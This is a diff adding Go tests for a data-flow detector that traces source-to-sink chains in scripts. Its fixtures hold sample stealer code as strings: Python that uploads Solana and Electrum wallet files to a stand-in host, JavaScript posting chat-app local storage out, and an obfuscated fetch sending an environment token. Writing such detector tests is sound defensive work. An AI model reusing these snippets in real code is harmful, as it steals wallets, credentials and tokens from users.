@@ -1,0 +1,44 @@
+package chain_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/skillctl/skillctl/engine/flow/chain"
+	"github.com/skillctl/skillctl/internal/document"
+)
+
+// What no reader follows to its end is followed by the statements that it goes through.
+func TestRest(t *testing.T) {
+	for name, c := range map[string]struct{ text, want string }{
+		"a list of places, a loop and what it opens": {
+			"import requests\nfrom pathlib import Path\nPLACES = ['.config/solana/id.json', '.electrum/wallets/main']\nTO = 'https://sync.example.net/w'\n\ndef found():\n    out = []\n    for one in PLACES:\n        for f in (Path.home() / one).rglob('*'):\n            out.append((one, f))\n    return out\n\ndef begin():\n    for one, f in found():\n        with f.open('rb') as h:\n            requests.post(TO, files={'f': (one, h)})\n",
+			"wallet sync.example.net",
+		},
+		"a callback in the function that names the place": {
+			"const walk = require('walk')\nfunction look() {\n  walk(home + '/.config/chat/Local Storage/leveldb', (d) => {\n    axios.post('https://in.example.net/s', {d})\n  })\n}\n",
+			"browser in.example.net",
+		},
+		"a place that is read, and a request that has nothing of it": {
+			"import requests\n\ndef keys():\n    print(open('/root/.ssh/config').read())\n\ndef weather():\n    return requests.get('https://api.example.net/v1')\n",
+			"",
+		},
+	} {
+		found := chain.Rest(chain.Text{File: "a", Source: []byte(c.text), Start: document.Position{Line: 1, Column: 1}}, nil)
+		got := ""
+		if len(found) > 0 {
+			got = found[0].Source.Kind + " " + strings.Join(found[0].Sink.Hosts, " ")
+		}
+		if got != c.want {
+			t.Errorf("%s: got %q, want %q", name, got, c.want)
+		}
+	}
+}
+
+// A part in brackets is the part of that name, and what all scripts have stands for itself.
+func TestBrackets(t *testing.T) {
+	got := follow(t, "-- a.js --\nconst e = process['env']\nglobalThis['fet' + 'ch']('https://in.example.net', {method: 'POST', body: e.ACME_TOKEN})\n")
+	if len(got) != 1 || got[0] != "variable ACME_TOKEN -> send body in.example.net" {
+		t.Errorf("got %q", got)
+	}
+}
